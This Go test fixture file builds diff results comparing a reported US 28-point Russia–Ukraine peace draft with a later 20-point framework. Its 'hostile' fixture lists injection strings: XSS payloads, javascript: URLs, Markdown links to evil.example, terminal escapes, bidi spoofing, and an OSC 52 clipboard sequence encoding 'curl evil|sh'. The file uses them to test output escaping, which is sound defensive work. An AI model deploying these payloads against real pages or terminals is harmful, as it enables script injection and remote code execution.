package render

import (
	"strings"

	"github.com/plandiff/plandiff/pkg/diff"
	"github.com/plandiff/plandiff/pkg/diff/words"
)

// Hand-built Results for the golden and property tests. The wording follows
// the corpus conventions (plandiff's own paraphrase of what sources report);
// numbers and ids are those of plans/us-28-draft.yaml where they exist.

type fixture struct {
	name   string
	result func() *diff.Result
}

var fixtures = []fixture{
	{"all-kinds", allKinds},
	{"complete", completeNew},
	{"hostile", hostile},
	{"no-differences", noDifferences},
	{"empty", empty},
}

func eq(s string) words.Edit  { return words.Edit{Op: words.OpEqual, Text: s} }
func del(s string) words.Edit { return words.Edit{Op: words.OpDelete, Text: s} }
func ins(s string) words.Edit { return words.Edit{Op: words.OpInsert, Text: s} }

func usDraft() diff.VersionRef {
	return diff.VersionRef{
		ID:           "us-28-draft",
		Title:        "US 28-point draft peace plan for Russia and Ukraine",
		Completeness: "full",
		Surfaced:     "2025-11-20",
		Status:       "leaked",
		Name:         "plans/us-28-draft.yaml",
		Sources: []diff.SourceRef{
			{ID: "ap-kmt", Outlet: "keymantermlife.com (mirror of AP copy)", Date: "2025-11-21",
				URL: "https://keymantermlife.com/this-is-president-trumps-plan-to-end-the-ukraine-war", Covers: "full-text"},
			{ID: "liga", Outlet: "LIGA.net (English edition, citing Axios and The Telegraph)", Date: "2025-11-20",
				URL: "https://news.liga.net/en/amp/politics/news/media-disclosed-all-28-points", Covers: "full-text"},
		},
	}
}

func frameworkPartial() diff.VersionRef {
	return diff.VersionRef{
		ID:           "framework-20",
		Title:        "20-point framework for ending the war",
		Completeness: "partial",
		Surfaced:     "2025-12-24",
		Status:       "reported",
		Name:         "plans/framework-20.yaml",
		Sources: []diff.SourceRef{
			{ID: "briefing", Outlet: "Presidential Office briefing (as reported by Ukrainska Pravda)", Date: "2025-12-24",
				URL: "https://www.pravda.com.ua/eng/news/2025/12/24/framework/", Covers: "summary"},
			{ID: "abc", Outlet: "ABC News", Date: "2025-12-25", URL: "https://abcnews.example/framework?a=1&b=2", Covers: "quotes"},
		},
	}
}

// allKinds has every kind, both flags, figures (paired, old-only and
// new-only), every delta, notes, a removal recorded by a removed entry and an
// unreported clause; the new version is partial.
func allKinds() *diff.Result {
	return &diff.Result{
		Schema: diff.Schema,
		Old:    usDraft(),
		New:    frameworkPartial(),
		Match:  "auto",
		Summary: diff.Summary{Unchanged: 2, Modified: 2, Merged: 1, Split: 1, Added: 1, Removed: 1,
			Unreported: 1, Moved: 2, RemovedReported: 1},
		Changes: []diff.Change{
			{
				Kind: diff.KindUnchanged, Old: []string{"sovereignty"}, New: []string{"sovereignty"},
				OldNumbers: []string{"1"}, NewNumbers: []string{"1"}, Similarity: 1, Topic: "sovereignty",
				Edits:   []words.Edit{eq("Ukraine's sovereignty will be confirmed.")},
				Figures: []words.Figure{}, Sources: diff.SidePair{Old: []string{"ap-kmt"}, New: []string{"briefing"}},
				Rule: diff.RuleID, OldText: "Ukraine's sovereignty will be confirmed.",
				NewText: "Ukraine's sovereignty will be confirmed.",
			},
			{
				Kind: diff.KindModified, Old: []string{"armed-forces-size"}, New: []string{"armed-forces-size"},
				OldNumbers: []string{"6"}, NewNumbers: []string{"4"}, Renumbered: true,
				Similarity: 0.7142857142857143, Topic: "military",
				Edits: []words.Edit{
					eq("The size of Ukraine's armed forces will be "), del("limited to 600,000 personnel"),
					ins("kept at 800,000 personnel in peacetime"), eq("."),
				},
				Figures:    []words.Figure{{Old: "600,000", New: "800,000"}},
				Sources:    diff.SidePair{Old: []string{"ap-kmt", "liga"}, New: []string{"briefing"}},
				Rule:       diff.RuleID,
				OldText:    "The size of Ukraine's armed forces will be limited to 600,000 personnel.",
				NewText:    "The size of Ukraine's armed forces will be kept at 800,000 personnel in peacetime.",
				Confidence: &diff.Delta{Old: "confirmed", New: "reported"},
				OldNotes:   []string{"The limit makes no distinction between peacetime and wartime."},
				NewNotes:   []string{"Zelensky read the figure out; no text was published."},
			},
			{
				Kind: diff.KindUnchanged, Old: []string{"non-aggression-pact"}, New: []string{"non-aggression-pact"},
				OldNumbers: []string{"2"}, NewNumbers: []string{"3"}, Moved: true, Renumbered: true, Similarity: 1,
				Topic:   "non-aggression",
				Edits:   []words.Edit{eq("Russia, Ukraine and Europe will conclude a non-aggression agreement.")},
				Sources: diff.SidePair{Old: []string{"ap-kmt"}, New: []string{"briefing"}},
				Rule:    diff.RuleID,
			},
			{
				Kind: diff.KindMerged, Old: []string{"europe-100bn", "unfreeze-european-funds"},
				New: []string{"reconstruction-fund"}, OldNumbers: []string{"14.3", "14.4"}, NewNumbers: []string{"9"},
				Renumbered: true, Similarity: 0.52, Topic: "frozen-assets",
				Edits: []words.Edit{
					eq("Europe will add "), del("$100 billion"), ins("funds"), eq(" to the reconstruction investment"),
					del(".\n\nFrozen European funds will be unfrozen"), ins(", financed in part by frozen Russian assets"),
					eq("."),
				},
				Figures:    []words.Figure{{Old: "$100 billion", New: ""}},
				Sources:    diff.SidePair{Old: []string{"liga"}, New: []string{"briefing", "abc"}},
				Rule:       diff.RuleMergeSplit,
				ProposedBy: &diff.Delta{Old: "United States", New: "Ukraine, United States"},
			},
			{
				Kind: diff.KindSplit, Old: []string{"security-guarantee"},
				New: []string{"us-guarantee", "europe-guarantee"}, OldNumbers: []string{"10"},
				NewNumbers: []string{"7", "8"}, Moved: true, Renumbered: true, Similarity: 0.61,
				Topic: "security-guarantees",
				Edits: []words.Edit{
					eq("The United States will give a security guarantee"), ins(" modelled on Article 5.\n\n"),
					eq("European"), ins(" states"), eq(" will "), del("take part"), ins("give guarantees of their own"), eq("."),
				},
				Sources:  diff.SidePair{Old: []string{"ap-kmt"}, New: []string{"briefing"}},
				Rule:     diff.RuleDerivesFrom,
				Status:   &diff.Delta{Old: "", New: "bracketed"},
				NewNotes: []string{"The Article 5 wording is Zelensky's; the US has not confirmed it."},
			},
			{
				Kind: diff.KindAdded, New: []string{"ceasefire-monitoring"}, NewNumbers: []string{"12"},
				Topic:   "monitoring",
				Edits:   []words.Edit{ins("A monitoring mechanism chaired by the United States will verify the ceasefire within 30 days.")},
				Figures: []words.Figure{{Old: "", New: "30 days"}},
				Sources: diff.SidePair{New: []string{"briefing"}},
				Rule:    diff.RuleNone,
				NewText: "A monitoring mechanism chaired by the United States will verify the ceasefire within 30 days.",
			},
			{
				Kind: diff.KindRemoved, Old: []string{"amnesty"}, OldNumbers: []string{"26"}, Topic: "amnesty",
				Edits:        []words.Edit{del("All parties to the conflict will receive full amnesty for their actions during the war.")},
				Sources:      diff.SidePair{Old: []string{"liga"}, New: []string{"abc"}},
				Rule:         diff.RuleRemovedMark,
				OldText:      "All parties to the conflict will receive full amnesty for their actions during the war.",
				RemovedEntry: "amnesty", Evidence: diff.EvidenceReported,
				NewNotes: []string{"ABC quotes an official saying the amnesty point was dropped."},
			},
			{
				Kind: diff.KindUnreported, Old: []string{"russia-g8"}, OldNumbers: []string{"13"}, Topic: "economy",
				Edits:   []words.Edit{del("Russia will be invited back into the G8.")},
				Sources: diff.SidePair{Old: []string{"ap-kmt", "missing-source"}},
				Rule:    diff.RuleNone,
				OldText: "Russia will be invited back into the G8.",
			},
			{
				Kind: diff.KindModified, Old: []string{"elections"}, New: []string{"elections"},
				OldNumbers: []string{"25"}, NewNumbers: []string{"18"}, Moved: false, Renumbered: true,
				Similarity: 0.5555, Topic: "elections",
				Edits: []words.Edit{
					// Replacements separated by a space: shown as one.
					eq("Ukraine will hold elections "), del("within"), ins("as"), eq(" "), del("100 days"),
					ins("soon as possible after signing"), eq("."),
				},
				Figures: []words.Figure{{Old: "100 days", New: ""}},
				Sources: diff.SidePair{Old: []string{"liga"}, New: []string{"briefing"}},
				Rule:    diff.RuleContent,
			},
		},
	}
}

// completeNew diffs against a complete version: a clause missing from it is
// removed by absence, with no removed entry.
func completeNew() *diff.Result {
	n := frameworkPartial()
	n.Completeness = "full"
	n.Name = ""
	return &diff.Result{
		Schema:  diff.Schema,
		Old:     usDraft(),
		New:     n,
		Match:   "content",
		Summary: diff.Summary{Modified: 1, Removed: 3, RemovedReported: 2, RemovedAbsent: 1},
		Changes: []diff.Change{
			{
				// A removed entry matched to its old clause by content.
				Kind: diff.KindRemoved, Old: []string{"foreign-aid-audit"}, OldNumbers: []string{"26"},
				Similarity: 0.4567, Topic: "economy", Rule: diff.RuleContent, RemovedEntry: "aid-audit-dropped",
				Evidence: diff.EvidenceReported,
				OldText:  "All foreign aid to Ukraine will be audited.",
				Edits:    []words.Edit{del("All foreign aid to Ukraine will be audited.")},
				Sources:  diff.SidePair{Old: []string{"ap-kmt"}, New: []string{"abc"}},
			},
			{
				// A removed entry that matches no old clause.
				Kind: diff.KindRemoved, Topic: "territory", Rule: diff.RuleRemovedMark, RemovedEntry: "donbas-rent",
				Evidence: diff.EvidenceReported,
				Edits:    []words.Edit{}, Figures: []words.Figure{},
				Sources:  diff.SidePair{Old: []string{}, New: []string{"abc"}},
				NewNotes: []string{"Reported before the leak; not in the 28 points."},
			},
			{
				Kind: diff.KindRemoved, Old: []string{"amnesty"}, OldNumbers: []string{"26"},
				Edits:    []words.Edit{del("All parties to the conflict will receive full amnesty.")},
				Sources:  diff.SidePair{Old: []string{"liga"}},
				Rule:     diff.RuleNone,
				Evidence: diff.EvidenceAbsent,
			},
			{
				// No edits, no numbers: the whole texts are shown, ids stand in
				// for numbers.
				Kind: diff.KindModified, Old: []string{"zaporizhzhia-npp"}, New: []string{"znpp"},
				Similarity: 0.4, Rule: diff.RuleContent,
				OldText: "The Zaporizhzhia nuclear plant's power will be split 50:50.",
				NewText: "The plant will be run by the United States, Ukraine and Russia.",
				Sources: diff.SidePair{Old: []string{"ap-kmt"}, New: []string{"abc"}},
			},
		},
	}
}

func noDifferences() *diff.Result {
	return &diff.Result{
		Schema: diff.Schema, Old: usDraft(), New: usDraft(), Match: "auto",
		Summary: diff.Summary{Unchanged: 1},
		Changes: []diff.Change{{
			Kind: diff.KindUnchanged, Old: []string{"sovereignty"}, New: []string{"sovereignty"},
			OldNumbers: []string{"1"}, NewNumbers: []string{"1"}, Similarity: 1, Rule: diff.RuleID,
			Edits:   []words.Edit{eq("Ukraine's sovereignty will be confirmed.")},
			Sources: diff.SidePair{Old: []string{"ap-kmt"}, New: []string{"ap-kmt"}},
		}},
	}
}

// empty is the zero Result: every slice nil.
func empty() *diff.Result { return &diff.Result{} }

// hostileStrings are strings that try to escape their field: terminal
// control, Markdown and HTML injection, mentions, bidi spoofing.
var hostileStrings = []string{
	"<script>alert(1)</script>",
	`"><img src=x onerror=alert(1)>`,
	"[click](http://evil.example)",
	"![img](http://evil.example/x.png)",
	"@everyone and @org/team",
	"| pipes | in | cells |",
	"\x1b[31mRED\x1b[0m",
	"\x1b]8;;http://evil.example\x1b\\osc8 link\x1b]8;;\x1b\\",
	"\x1b]52;c;Y3VybCBldmlsfHNo\x07",
	"bell\x07",
	"safe\rEVIL",
	"abc\u202eevil\u202c",
	"# heading\n- item\n1. one\n===\n\n    code",
	"&lt;b&gt; &#x3C;script>",
	`$\color{red}{FAKE}$`,
	"`code` **bold** _em_ ~~strike~~",
	"#123 org/repo#45",
	"back\bspace and tab\there",
	"\u009b31m8bit",
	"\xff\xfe invalid",
	"<!-- comment -->",
	"[ref]: http://evil.example",
	"javascript:alert(1)",
	"trailing backslash\\",
}

var hostileURLs = []string{
	"javascript:alert(1)",
	"JaVaScRiPt:alert(1)",
	"data:text/html,<script>alert(1)</script>",
	"//evil.example/protocol-relative",
	"http://user:pass@evil.example/",
	"https://example.org/a b(c)\"'<>|[x]`\\ü",
	"HTTPS://EXAMPLE.ORG/Upper?q=1&amp;x=2",
	"http://evil.example/\x1b]8;;x\x07",
	"vbscript:msgbox(1)",
}

// hostile puts hostile strings in every field that the renderers print.
func hostile() *diff.Result {
	all := strings.Join(hostileStrings, " ")
	h := func(i int) string { return hostileStrings[i%len(hostileStrings)] }
	var srcOld, srcNew []diff.SourceRef
	var idsOld, idsNew []string
	for i, u := range hostileURLs {
		id := "s" + string(rune('a'+i))
		srcOld = append(srcOld, diff.SourceRef{ID: id, Outlet: h(i), Date: h(i + 3), URL: u, Covers: h(i + 5)})
		srcNew = append(srcNew, diff.SourceRef{ID: id, Outlet: h(i + 1), URL: u})
		idsOld = append(idsOld, id)
		idsNew = append(idsNew, id)
	}
	idsOld = append(idsOld, h(2)) // an id the version does not list
	var edits []words.Edit
	for i, s := range hostileStrings {
		switch i % 3 {
		case 0:
			edits = append(edits, eq(s+" "))
		case 1:
			edits = append(edits, del(s))
		default:
			edits = append(edits, ins(s), eq(" "))
		}
	}
	changes := []diff.Change{
		{
			Kind: diff.KindModified, Old: []string{h(0)}, New: []string{h(1)},
			OldNumbers: []string{h(13)}, NewNumbers: []string{h(12)}, Moved: true, Renumbered: true,
			Similarity: 0.5, Topic: h(4), Edits: edits,
			Figures:    []words.Figure{{Old: h(0), New: h(5)}, {Old: h(6), New: ""}},
			Sources:    diff.SidePair{Old: idsOld, New: idsNew},
			Rule:       h(7),
			Confidence: &diff.Delta{Old: h(8), New: h(9)},
			ProposedBy: &diff.Delta{Old: h(10), New: h(11)},
			Status:     &diff.Delta{Old: h(14), New: h(15)},
			OldNotes:   []string{h(16), h(17)},
			NewNotes:   []string{all},
		},
		{
			Kind: diff.KindRemoved, Old: []string{"@everyone"}, OldNumbers: []string{"- 1."},
			OldText: all, Sources: diff.SidePair{Old: []string{"sa"}, New: []string{"sb"}},
			Rule: diff.RuleRemovedMark, RemovedEntry: h(0) + h(6),
		},
		{
			Kind: diff.KindAdded, New: []string{"x"}, NewNumbers: []string{"1"},
			NewText: all, Sources: diff.SidePair{New: []string{"sc"}}, Rule: diff.RuleNone,
		},
		{
			Kind: diff.Kind(h(19) + h(6)), Old: []string{"y"}, New: []string{"y"},
			Sources: diff.SidePair{Old: []string{"sa"}, New: []string{"sa"}}, Rule: diff.RuleID,
			Edits: []words.Edit{{Op: words.Op(h(6)), Text: h(0)}},
		},
	}
	return &diff.Result{
		Schema: diff.Schema,
		Old: diff.VersionRef{ID: h(0), Title: all, Completeness: h(6), Surfaced: h(10), Status: h(11),
			Name: h(12), Sources: srcOld},
		New: diff.VersionRef{ID: h(4) + "\n" + h(5), Title: h(7) + h(8), Completeness: "partial", Surfaced: h(3),
			Name: h(9), Sources: srcNew},
		Match:   h(18),
		Summary: diff.Summary{Modified: 1, Removed: 1, Added: 1, Moved: 1},
		Changes: changes,
	}
}
